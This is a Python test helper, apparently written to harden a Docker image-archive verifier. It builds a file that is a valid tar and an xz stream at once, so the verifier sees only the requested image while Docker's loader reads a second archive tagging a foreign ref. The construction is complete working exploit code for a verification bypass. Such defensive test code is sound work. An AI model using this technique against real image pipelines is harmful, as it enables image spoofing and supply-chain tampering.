"""A plaintext that is two archives at once (from the adversarial review of issue 8): a tar
that the stream verifier reads as holding only the requested image, which is also an xz
stream that Docker's loader (moby's DetectCompression) decompresses into another tar tagging
a foreign ref. The verifier must refuse anything that starts like a compressed stream."""

# ruff: noqa: E741, SIM115  (bit-level construction, kept as the reviewer wrote it)
from __future__ import annotations

import io
import json
import struct
import tarfile
import zlib

from . import savetar
from .savetar import member_bytes

K, BH = 59, 44  # chunk-1 data starts at R[59]; the xz block header is 44 bytes


def retag(tar_bytes: bytes, extra: list[str]) -> bytes:
    """O: the same image, manifest.json/repositories also tagging `extra` (a foreign ref)."""
    src = tarfile.open(fileobj=io.BytesIO(tar_bytes))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as dst:
        for m in src.getmembers():
            data = member_bytes(src, m) if m.isfile() else None
            if m.name == "manifest.json":
                man = json.loads(member_bytes(src, m))
                man[0]["RepoTags"] += extra
                data = json.dumps(man).encode()
            if m.name == "repositories":
                data = None
                continue
            if data is not None:
                m.size = len(data)
                dst.addfile(m, io.BytesIO(data))
            else:
                dst.addfile(m)
    return out.getvalue()


def octal(n: int, width: int) -> bytes:  # NUL-terminated octal
    return (b"%0*o" % (width - 1, n)) + b"\0"


def chk(block: bytes | bytearray) -> int:
    b = bytearray(block)
    b[148:156] = b" " * 8
    return sum(b)


def ustar(kind: bytes, size: int, name: bytes = b"x") -> bytearray:
    h = bytearray(512)
    h[0 : len(name)] = name
    h[100:108] = octal(0o644, 8)
    h[108:116] = octal(0, 8)
    h[116:124] = octal(0, 8)
    h[124:136] = octal(size, 12)
    h[136:148] = octal(0, 12)
    h[156:157] = kind
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = b"%06o\0 " % chk(h)
    return h


def vli(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def xz_polyglot(requested: str = "azaion/a:1.0", foreign: str = "nginx:latest") -> tuple[bytes, bytes]:
    """``(R, O)``: R the tar the verifier sees, O what ``xz -d R`` (and the Engine) reads."""
    REQ = requested
    plain = savetar.build([REQ], layer_bytes=2000)  # the legit archive (what the verifier sees)

    evil = retag(plain, [foreign])

    _t = tarfile.open(fileobj=io.BytesIO(plain))
    _last = _t.getmembers()[-1]
    body_plain = plain[: _last.offset_data + ((_last.size + 511) // 512) * 512]  # legit members, no end marker

    # --- H0: a pax *global* header ('g') whose name field begins with the xz stream header ---
    R = bytearray()
    H0 = bytearray(512)
    H0[0:6] = b"\xfd7zXZ\x00"
    H0[6:8] = b"\x00\x01"  # stream flags: CRC32 check
    H0[8:12] = struct.pack("<I", zlib.crc32(H0[6:8]))
    bh = bytearray(BH)
    bh[0] = BH // 4 - 1
    bh[1] = 0x00
    bh[2:5] = b"\x21\x01\x08"
    bh[BH - 4 :] = struct.pack("<I", zlib.crc32(bh[: BH - 4]))
    H0[12 : 12 + BH] = bh
    H0[56:59] = bytes([0x01]) + struct.pack(">H", (512 - K) - 1)  # LZMA2 uncompressed chunk 1
    H0[59:63] = b"pad\0"  # O's first header: name "pad"
    # R's own header fields
    H0[100:108] = octal(0o644, 8)
    H0[108:116] = octal(0, 8)
    H0[116:124] = octal(0, 8)
    H0[136:148] = octal(0, 12)
    H0[156:157] = b"g"
    H0[257:263] = b"ustar\0"
    H0[263:265] = b"00"

    # O's first header fields live in R's (ignored) linkname: O[j] == R[j + K]
    def oput(j: int, data: bytes) -> None:
        H0[j + K : j + K + len(data)] = data

    oput(100, octal(0o644, 8))
    oput(108, octal(0, 8))
    oput(116, octal(0, 8))
    oput(124, octal(0, 12))
    oput(136, octal(0, 12))
    oput(156, b"0")
    oput(157, b"\0")
    B0 = 3 + K + len(evil) + 3
    H0[124:136] = octal(B0, 12)
    tail = bytearray(K)  # O header's last K bytes (R H0 body): checksum tuning
    X = 0
    for _ in range(20):
        oput(148, b"%06o\0 " % X)
        H0[148:156] = b"%06o\0 " % chk(H0)
        O0 = bytes(H0[K:512]) + bytes(K)
        s0 = chk(O0)
        if 0 <= X - s0 <= 255 * K:
            break
        X = s0 + 300
    T = X - s0
    for i in range(K):
        tail[i] = min(255, T)
        T -= tail[i]
    assert T == 0
    R += H0
    R += bytes([0x02]) + struct.pack(">H", (K + len(evil)) - 1)  # chunk 2 header
    R += tail + evil  # chunk 2 data
    c3_at = len(R)
    R += b"\0\0\0"  # chunk 3 header (filled later)
    assert len(R) - 512 == B0
    R += bytes(-len(R) % 512)  # tar padding (zeros)
    c3_data_start = c3_at + 3
    R += body_plain  # legit members
    # M_end: a final 'g' member whose body ends the LZMA2 data, the block, the index and the stream
    uncomp_pre = (512 - K) + (K + len(evil))
    c3_len = len(R) + 512 - c3_data_start  # through M_end's header
    assert c3_len <= 65536
    R[c3_at : c3_at + 3] = bytes([0x02]) + struct.pack(">H", c3_len - 1)
    O_total = uncomp_pre + c3_len
    # compressed size: everything after the block header up to and incl. the LZMA2 end byte
    comp = (len(R) + 512 + 1) - (12 + BH)
    tailbody = bytearray(b"\x00")  # LZMA2 end marker
    blk_unpadded = BH + comp
    tailbody += bytes(-blk_unpadded % 4)  # block padding
    # CRC32 of the block's uncompressed data (O), computed below once R's O-view is known
    idx = bytearray(b"\x00") + vli(1) + vli(blk_unpadded + 4) + vli(O_total)
    idx += bytes(-len(idx) % 4)
    idx += struct.pack("<I", zlib.crc32(idx))
    footer_flags = b"\x00\x01"
    back = struct.pack("<I", len(idx) // 4 - 1)
    footer = struct.pack("<I", zlib.crc32(back + footer_flags)) + back + footer_flags + b"YZ"
    Mend_size = len(tailbody) + 4 + len(idx) + len(footer)
    R += ustar(b"g", Mend_size, b"end")
    # O as xz sees it: chunk data concatenated
    O = bytes(R[K:512]) + bytes(R[515 : 515 + K + len(evil)]) + bytes(R[c3_data_start : c3_data_start + c3_len])
    assert len(O) == O_total
    R += tailbody + struct.pack("<I", zlib.crc32(O)) + idx + footer
    R += bytes(-len(R) % 512) + bytes(1024)

    return bytes(R), bytes(O)
